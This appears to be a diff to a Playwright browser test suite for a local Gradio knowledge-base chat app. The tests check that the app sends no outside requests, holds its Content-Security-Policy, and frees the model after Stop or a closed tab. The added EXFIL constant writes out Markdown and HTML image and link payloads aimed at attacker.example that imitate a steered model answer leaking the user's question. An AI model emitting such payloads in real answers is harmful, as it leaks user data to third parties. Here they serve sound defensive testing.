@@ -1,6 +1,7 @@
 """The app in Debian's Chromium through Playwright: a streamed, cited answer with its tool call; upload, search and
-delete in the Knowledge base tab; both evaluations; the login; and no request from the page or the server to any
-outside host.
+delete in the Knowledge base tab; both evaluations; the login; Stop and a closed tab freeing the local model; and
+no request from the page or the server to any outside host, while every answer the scripted model writes holds a
+remote image and remote links (`EXFIL`), and no page breaks the app's Content-Security-Policy.
 
 Waits are for elements, never for network idle: Gradio keeps a connection open. The chat test takes a screenshot
 into its temporary folder; the README's come from the real model (scripts/screenshots.py).
@@ -33,6 +34,17 @@ CHROMIUM = "/usr/bin/chromium"
 ARGS = FLAGS  # the fetcher's own: headless, no background traffic, no name lookups
 SAMPLE_FILES = ["policies/membership.md", "about/visit.html", "guides/fixing-a-flat.md"]
 TIMEOUT_MS = 30_000
+ATTACKER = "attacker.example"
+# What a steered answer writes to send the question elsewhere: every way Markdown (and HTML in it) links or loads.
+EXFIL = (
+    f"![pixel](http://{ATTACKER}/pixel.png?asked=family) [more](http://{ATTACKER}/more?asked=family) "
+    f'<img src="http://{ATTACKER}/tag.png"> <a href="http://{ATTACKER}/a">here</a> http://{ATTACKER}/bare '
+    f"www.{ATTACKER}/www <http://{ATTACKER}/auto> [ref][evil]\n\n[evil]: http://{ATTACKER}/ref\n\n"
+)
+RECORD_VIOLATIONS = """
+window.__csp = [];
+document.addEventListener('securitypolicyviolation', e => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));
+"""
 
 pytestmark = [pytest.mark.slow, parts.requires("Chromium", Path(CHROMIUM).exists())]
 
@@ -85,7 +97,10 @@ def ui(tmp_path_factory: pytest.TempPathFactory, embedder: SentenceTransformerEm
     tmp = tmp_path_factory.mktemp("ui-browser")
     settings = Settings(data_dir=tmp / "data", collection=f"t{uuid.uuid4().hex[:12]}", _env_file=None)
     files = [SAMPLES / name for name in SAMPLE_FILES]
-    with watching_server(), running_app(settings, embedder, delay_s=0.04, docs=files) as running:
+    with watching_server(), running_app(settings, embedder, delay_s=0.04, docs=files, extra=EXFIL) as running:
+        models = running.settings.store.models_path
+        models.mkdir(parents=True, exist_ok=True)
+        (models / "ok.gguf").write_bytes(b"GGUF")  # a local model (one answer at a time); the scripted one answers
         yield running
 
 
@@ -106,8 +121,10 @@ def outside() -> list[str]:
 
 @pytest.fixture
 def context(browser: Any, outside: list[str]) -> Iterator[Any]:
-    """A browser context whose route handler records (and refuses) every request to a non-loopback host."""
+    """A browser context whose route handler records (and refuses) every request to a non-loopback host; at the end,
+    no page may have broken the Content-Security-Policy (the app works under it)."""
     context = browser.new_context(viewport={"width": 1440, "height": 900})
+    context.add_init_script(RECORD_VIOLATIONS)
 
     def route(r: Any) -> None:
         url = urlparse(r.request.url)
@@ -120,7 +137,9 @@ def context(browser: Any, outside: list[str]) -> Iterator[Any]:
     context.route("**/*", route)
     context.set_default_timeout(TIMEOUT_MS)
     yield context
+    violations = [v for page in context.pages for v in page.evaluate("window.__csp || []")]
     context.close()
+    assert violations == []
 
 
 def _open(context: Any, url: str) -> Any:
@@ -165,6 +184,12 @@ def test_question_gets_a_streamed_cited_answer_with_a_visible_tool_call(
     answer = chat.locator(".bot .message-content").last.inner_text()
     assert answer.startswith("According to the knowledge base:") and answer.rstrip().endswith("[1]")
     assert "Family" in answer and "$70" in answer
+    remote = chat.evaluate(
+        """chat => [...chat.querySelectorAll('img[src], a[href], [style*="url("]')]
+            .map(e => e.getAttribute('src') || e.getAttribute('href') || e.getAttribute('style'))"""
+    )
+    assert [url for url in remote if ATTACKER in url] == [] and outside == []
+    assert "pixel" in answer and "more" in answer  # what a dropped image and link said stays, as text
     partial = {t for t in page.evaluate("window.__seen") if "According to" in t and not t.rstrip().endswith("[1]")}
     assert len(partial) >= 3, "the answer arrived in one piece, not streamed"
     assert "membership.md" in sources.inner_text() and "score" in sources.inner_text()
@@ -182,6 +207,48 @@ def test_question_gets_a_streamed_cited_answer_with_a_visible_tool_call(
     chat.get_by_text("According to the knowledge base").first.wait_for()  # the old thread reopened
     assert outside == []
     assert SERVER_OUTSIDE == []
+
+
+def test_the_content_policy_stops_a_remote_image_that_reaches_the_page(browser: Any, ui: RunningApp) -> None:
+    """The second line behind the renderer: an image from elsewhere put into the page loads nothing."""
+    import httpx
+
+    assert "img-src 'self' data: blob:" in httpx.get(ui.url, timeout=10).headers["content-security-policy"]
+    requested: list[str] = []
+    context = browser.new_context()
+    context.add_init_script(RECORD_VIOLATIONS)
+    context.route("**/*", lambda r: r.continue_() if is_local(urlparse(r.request.url).hostname) else (
+        requested.append(r.request.url), r.abort()))  # fmt: skip
+    page = context.new_page()
+    page.goto(ui.url)
+    page.locator("#question textarea").wait_for()
+    page.evaluate(f"document.body.insertAdjacentHTML('beforeend', '<img src=\"http://{ATTACKER}/injected.png\">')")
+    _wait_for(lambda: page.evaluate("window.__csp.length") > 0, what="the policy to refuse the image")
+    assert requested == [] and ATTACKER in page.evaluate("window.__csp.join()")
+    context.close()
+
+
+def test_stop_and_a_closed_tab_free_the_local_model(ui: RunningApp, context: Any, outside: list[str]) -> None:
+    """A slow answer on the local model (one answer at a time), stopped, then another left by closing its tab:
+    each time the next question on that model is answered at once, not after the slow answer (five minutes)."""
+    from gradio_client import Client
+
+    local = f"gguf:{ui.settings.store.models_path}/ok.gguf"
+    client = Client(ui.url, verbose=False)
+    for leave in ("stop", "close"):
+        page = _open(context, ui.url)
+        picker = page.locator("#model input")
+        picker.fill(local)
+        picker.press("Enter")
+        page.locator("#question textarea").fill("Tell me slowly about the membership.")
+        page.locator("#question textarea").press("Enter")
+        page.locator("#chatbot").get_by_text("The word").first.wait_for()
+        page.locator("#stop").click() if leave == "stop" else page.close()
+        job = client.submit("How much is a Family membership per year?", "", local, api_name="/ask")
+        assert "$70" in job.result(timeout=30)["answer"], leave
+        if leave == "stop":
+            page.close()
+    assert outside == []
 
 
 def test_upload_appears_becomes_searchable_and_delete_removes_it(
